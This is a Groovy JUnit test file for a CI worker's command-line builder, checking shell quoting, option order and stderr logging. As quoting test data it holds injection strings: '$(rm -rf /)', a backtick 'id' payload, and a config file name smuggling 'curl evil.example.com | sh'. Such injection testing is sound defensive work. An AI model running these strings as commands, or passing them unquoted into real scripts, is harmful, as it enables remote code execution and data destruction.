package mlsecops.test

import org.junit.Test
import org.mlsecops.WorkerCommand
import org.mlsecops.Worker

/** The worker command line: global options first, every word quoted for a POSIX shell when needed. */
class WorkerCommandTest {

    static final Map CFG = [executable: 'mlsecops', configFile: 'mlsecops.yaml', workspace: '.mlsecops']

    @Test
    void 'global options come before the command'() {
        assert WorkerCommand.line(CFG, ['gate', '--stage', 'security']) ==
            'mlsecops --config mlsecops.yaml --workspace .mlsecops gate --stage security'
    }

    @Test
    void 'words with shell syntax are single-quoted, quotes escaped'() {
        assert WorkerCommand.quote('plain-word_1.0/x:y,z@h%+') == 'plain-word_1.0/x:y,z@h%+'
        assert WorkerCommand.quote('two words') == "'two words'"
        assert WorkerCommand.quote('$(rm -rf /)') == "'\$(rm -rf /)'"
        assert WorkerCommand.quote('`id`;x|y&z>w') == "'`id`;x|y&z>w'"
        assert WorkerCommand.quote("it's") == "'it'\"'\"'s'"
        assert WorkerCommand.quote('') == "''"
        assert WorkerCommand.quote('A=b') == "'A=b'"
    }

    @Test
    void 'a hostile config file name stays one word'() {
        Map cfg = CFG + [configFile: 'x.yaml; curl evil.example.com | sh']
        assert WorkerCommand.line(cfg, ['load']) ==
            "mlsecops --config 'x.yaml; curl evil.example.com | sh' --workspace .mlsecops load"
    }

    @Test
    void 'the script streams stderr while copying it to the log, and keeps the exit code'() {
        assert WorkerCommand.script(CFG, ['sign'], '.mlsecops/jenkins/mlsecops-sign.stderr.log') == '''\
            mkdir -p .mlsecops/jenkins
            echo 3 > .mlsecops/jenkins/mlsecops-sign.stderr.log.rc
            { { mlsecops --config mlsecops.yaml --workspace .mlsecops sign; echo $? > .mlsecops/jenkins/mlsecops-sign.stderr.log.rc; } 2>&1 1>&3 3>&- | tee .mlsecops/jenkins/mlsecops-sign.stderr.log 1>&2 3>&-; } 3>&1
            rc=$(cat .mlsecops/jenkins/mlsecops-sign.stderr.log.rc)
            exit "$rc"'''.stripIndent()
    }

    @Test
    void 'the one-line message is the last line starting with mlsecops colon'() {
        assert Worker.lastMessage('a\nmlsecops: first\nb\nmlsecops: second\nc\n') == 'mlsecops: second'
        assert Worker.lastMessage('Traceback...\nValueError: x\n\n') == 'ValueError: x'
        assert Worker.lastMessage('') == null
    }

}
